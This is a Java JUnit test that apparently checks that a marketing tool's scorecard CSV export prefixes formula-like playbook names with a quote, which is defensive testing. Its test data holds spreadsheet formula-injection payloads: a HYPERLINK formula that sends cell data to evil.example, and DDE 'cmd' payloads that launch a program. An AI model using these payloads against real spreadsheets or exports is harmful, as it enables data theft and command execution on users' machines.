package io.abmsequencer.starter.faults;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.abmsequencer.starter.testsupport.Api;
import io.abmsequencer.starter.testsupport.ApiTestBase;
import io.abmsequencer.starter.testsupport.ConsoleSession;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Issue 8: every CSV the product emits neutralises formula cells. The one export is the scorecard
 * ({@code /scorecard.csv}, the console's "Download CSV"); its free text is the playbook name, which a
 * marketer types. A playbook named like a formula, with each character a spreadsheet starts a formula
 * with ({@code = + - @}, tab, carriage return), comes out prefixed with a quote, and no cell of the
 * file starts like a formula.
 */
class CsvExportSafetyTest extends ApiTestBase {
  static final List<String> NAMES = List.of(
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Report\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+2",
      "\r=1+2");

  @Test
  void formulaCellsAreNeutralisedInTheScorecardExport() {
    Api marketer = api.as("marketer", "marketer-demo");
    List<String> workflows = new ArrayList<>();
    for (int i = 0; i < NAMES.size(); i++) {
      String id = "csv-export-" + i;
      Api.Response uploaded = marketer.post("/api/playbooks", "application/yaml", """
          id: %s
          name: "%s"
          motion: NEW_LOGO
          tier: ONE_TO_MANY
          steps:
            - id: pause
              wait: 6 months
          """.formatted(id, yamlEscape(NAMES.get(i))));
      assertThat(uploaded.status()).as(uploaded.toString()).isEqualTo(201);
      workflows.add(launch(id, "csv-export-acct-" + i, "jane.doe@yourco.example", champion("ceo@csv-export-acct-" + i + ".example")));
    }
    for (String workflowId : workflows) awaitSequence(workflowId, s -> "WAITING".equals(status(s)));

    ConsoleSession console = new ConsoleSession(port, "marketer", "marketer-demo");
    List<CSVRecord> rows = await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(300)).until(() -> {
      HttpResponse<String> export = console.get("/scorecard.csv?days=30");
      assertThat(export.statusCode()).isEqualTo(200);
      assertThat(export.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
      return parse(export.body());
    }, r -> r.stream().filter(row -> row.get("playbook_id").startsWith("csv-export-")).count() == NAMES.size());

    Map<String, String> exported = new java.util.HashMap<>();
    for (CSVRecord row : rows) exported.put(row.get("playbook_id"), row.get("playbook_name"));
    for (int i = 0; i < NAMES.size(); i++) {
      assertThat(exported.get("csv-export-" + i)).as("the exported name of %s", NAMES.get(i)).isEqualTo("'" + NAMES.get(i));
    }
    for (CSVRecord row : rows) {
      for (String cell : row) {
        assertThat(cell).as("a cell of the scorecard export").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
            .doesNotStartWith("\t").doesNotStartWith("\r");
        if (cell.startsWith("-")) assertThat(cell).as("a negative number is the only cell that may start with -").matches("-[0-9.]+");
      }
    }

    for (String workflowId : workflows) marketer.postJson("/api/sequences/" + workflowId + "/cancel", "{}");
  }

  private static List<CSVRecord> parse(String csv) {
    String text = csv.startsWith("\uFEFF") ? csv.substring(1) : csv;
    try {
      return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text)).getRecords();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String yamlEscape(String value) {
    return value.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r");
  }
}
